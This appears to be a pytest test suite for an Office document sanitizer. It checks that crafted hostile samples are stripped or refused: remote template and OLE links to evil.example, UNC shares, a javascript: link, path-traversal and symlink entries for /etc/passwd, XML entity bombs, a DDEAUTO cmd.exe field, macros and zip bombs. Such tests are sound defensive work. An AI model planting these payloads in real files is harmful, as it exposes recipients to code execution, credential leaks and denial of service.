"""Word and Excel files that act, lead out or swell."""

import io
import struct
import zipfile

import docx
import openpyxl
import pytest

from tests.unit.assets import made_files as made
from tests.unit.assets.cleaned import clean, refused

pytestmark = pytest.mark.slow

PAYLOAD = made.PAYLOAD
LINKS = "word/_rels/document.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
# Eight bytes tell the container of the old Office; its streams are named in UTF-16.
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def ole(stream: str) -> bytes:
    return OLE + stream.encode("utf-16-le") + bytes(600)


def with_link(kind: str, target: str, *, is_out: bool = True) -> bytes:
    """Return a Word file with one more relationship of its document."""
    content = made.docx_file()
    mode = ' TargetMode="External"' if is_out else ""
    link = f'<Relationship Id="rIdX" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
    links = made.entry(content, LINKS).replace(
        b"</Relationships>", link.encode() + b"</Relationships>"
    )
    return made.rezipped(content, {LINKS: links})


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "http://evil.example/t.dotm"),
        ("oleObject", "http://evil.example/o.bin"),
        ("image", "http://evil.example/track.png"),
        ("frame", "http://evil.example/f.html"),
        ("aFChunk", "http://evil.example/c.mht"),
        ("hyperlink", "file:////evil.example/share"),
        ("hyperlink", "javascript:alert(1)"),
        ("subDocument", "\\\\evil.example\\share\\d.docx"),
    ],
)
def test_what_leads_out_of_the_file_is_dropped_and_the_rest_stays(kind: str, target: str) -> None:
    stored = clean(with_link(kind, target), "Sheet.docx")

    assert target.encode() not in made.everything(stored.content)
    assert docx.Document(io.BytesIO(stored.content)).paragraphs[0].text == "Speckled mug"


def test_a_template_named_in_the_settings_is_named_no_more() -> None:
    content = made.docx_file()
    settings = made.entry(content, "word/settings.xml").replace(
        b"</w:settings>",
        b'<w:attachedTemplate xmlns:r="' + OFFICE.encode() + b'" r:id="rId9"/></w:settings>',
    )
    links = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId9" Type="' + OFFICE.encode() + b'/attachedTemplate"'
        b' Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    content = made.rezipped(
        content, {"word/settings.xml": settings}, {"word/_rels/settings.xml.rels": links}
    )

    whole = made.everything(clean(content, "Sheet.docx").content)

    assert b"evil.example" not in whole
    assert b"attachedTemplate" not in whole


def test_unknown_parts_and_what_lies_around_the_archive_stay_behind() -> None:
    content = made.rezipped(
        made.docx_file(),
        added={
            "payload.html": PAYLOAD,
            "word/embeddings/oleObject1.bin": PAYLOAD,
            "customXml/item9.xml": b"<x>" + PAYLOAD.replace(b"<", b"&lt;") + b"</x>",
            "docProps/custom.xml": b"<x>payload</x>",
        },
    )

    stored = clean(content + PAYLOAD, "Sheet.docx")

    whole = made.everything(stored.content)
    assert b"payload" not in whole + stored.content
    assert b"docProps" not in whole


@pytest.mark.parametrize(
    ("added", "code"),
    [
        ({"word/vbaProject.bin": b"macro"}, "document-macros"),
        ({"inside.zip": made.docx_file()}, "document-nested"),
        ({"word/media/image1.png": b"PK\x03\x04" + bytes(64)}, "document-nested"),
        ({"../../etc/passwd": b"x"}, "document-broken"),
        ({"/etc/passwd": b"x"}, "document-broken"),
        ({"word\\document2.xml": b"x"}, "document-broken"),
        ({"WORD/document.xml": b"<x/>"}, "document-broken"),
        ({f"word/media/{number}.txt": b"" for number in range(2001)}, "document-bomb"),
        ({"word/media/zeros.bin": bytes(30 * 1024**2)}, "document-bomb"),
    ],
)
def test_archives_no_honest_program_writes_are_refused(added: dict[str, bytes], code: str) -> None:
    assert refused(made.rezipped(made.docx_file(), added=added), "Sheet.docx")[0] == code


def test_macros_are_refused_by_their_name_too() -> None:
    assert refused(made.docx_file(), "Sheet.docm")[0] == "document-macros"


def test_a_binary_workbook_is_told_what_to_be_saved_as() -> None:
    content = made.rezipped(made.xlsx_file(), added={"xl/workbook.bin": b"\x83\x01\x00"})

    assert refused(content, "Sheet.xlsx") == ("office-old", {"type": "Excel (binary)"})


def test_a_link_inside_an_archive_is_refused() -> None:
    target = io.BytesIO(made.docx_file())
    with zipfile.ZipFile(target, "a") as archive:
        link = zipfile.ZipInfo("word/media/link.png")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")

    assert refused(target.getvalue(), "Sheet.docx")[0] == "document-broken"


def test_shared_strings_that_swell_are_refused() -> None:
    row = b"<si><t>" + b"A" * 1000 + b"</t></si>"
    strings = b"<sst>" + row * 100_000 + b"</sst>"
    content = made.rezipped(made.xlsx_file(), added={"xl/sharedStrings2.xml": strings})

    assert refused(content, "Sheet.xlsx")[0] == "document-bomb"


def test_a_head_that_lies_about_its_length_is_refused() -> None:
    content = bytearray(made.docx_file())
    place = content.rindex(b"PK\x01\x02")  # of the last entry's line in the list
    struct.pack_into("<L", content, place + 24, 10)

    assert refused(bytes(content), "Sheet.docx")[0] == "document-broken"


def test_a_list_that_is_longer_than_any_is_not_read() -> None:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for number in range(30_000):
            archive.writestr(f"{number}", b"")

    assert refused(target.getvalue(), "Sheet.docx")[0] == "document-bomb"


@pytest.mark.parametrize(
    "part", ["word/document.xml", "word/styles.xml", LINKS, "[Content_Types].xml"]
)
def test_entities_are_refused_wherever_they_stand(part: str) -> None:
    laughs = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    content = made.docx_file()
    xml = made.entry(content, part)
    head, _mark, rest = xml.partition(b"?>")

    content = made.rezipped(content, {part: head + b"?>" + laughs + rest})

    assert refused(content, "Sheet.docx")[0] == "document-broken"


@pytest.mark.parametrize("words", [("DDEAUTO c:\\\\cmd.exe",), ("DD", "EAUTO c:\\\\cmd.exe")])
def test_a_field_that_starts_a_program_is_refused_however_it_is_cut(words: tuple[str, ...]) -> None:
    content = made.docx_file()
    pieces = "".join(f"<w:r><w:instrText>{word}</w:instrText></w:r>" for word in words)
    xml = made.entry(content, "word/document.xml").replace(
        b"<w:sectPr", f"<w:p>{pieces}</w:p><w:sectPr".encode(), 1
    )

    assert refused(made.rezipped(content, {"word/document.xml": xml}), "a.docx")[0] == (
        "document-active"
    )


@pytest.mark.parametrize(
    ("stream", "filename", "answer"),
    [
        ("EncryptedPackage", "Sheet.docx", ("document-locked", {})),
        ("WordDocument", "Sheet.doc", ("office-old", {"type": "Word 97"})),
        ("WordDocument", "Sheet.docx", ("office-old", {"type": "Word 97"})),
        ("Workbook", "Prices.xls", ("office-old", {"type": "Excel 97"})),
        ("PowerPoint Document", "Deck.ppt", ("office-old", {"type": "PowerPoint 97"})),
    ],
)
def test_old_and_locked_office_files_get_their_own_answers(
    stream: str, filename: str, answer: tuple[str, dict[str, str]]
) -> None:
    assert refused(ole(stream), filename) == answer


def test_a_workbook_s_links_to_other_workbooks_are_dropped() -> None:
    content = made.xlsx_file()
    links = made.entry(content, "xl/_rels/workbook.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rIdE" Type="' + OFFICE.encode() + b'/externalLink"'
        b' Target="externalLinks/externalLink1.xml"/></Relationships>',
    )
    book = made.entry(content, "xl/workbook.xml").replace(
        b"</workbook>",
        b'<externalReferences><externalReference xmlns:r="' + OFFICE.encode() + b'" r:id="rIdE"/>'
        b"</externalReferences></workbook>",
    )
    content = made.rezipped(
        content,
        {"xl/_rels/workbook.xml.rels": links, "xl/workbook.xml": book},
        {"xl/externalLinks/externalLink1.xml": b"<externalLink>payload</externalLink>"},
    )

    stored = clean(content, "Prices.xlsx")

    whole = made.everything(stored.content)
    assert b"externalLink" not in whole
    assert b"externalReference" not in whole
    assert openpyxl.load_workbook(io.BytesIO(stored.content)).sheetnames == ["Sheet", "Prices"]
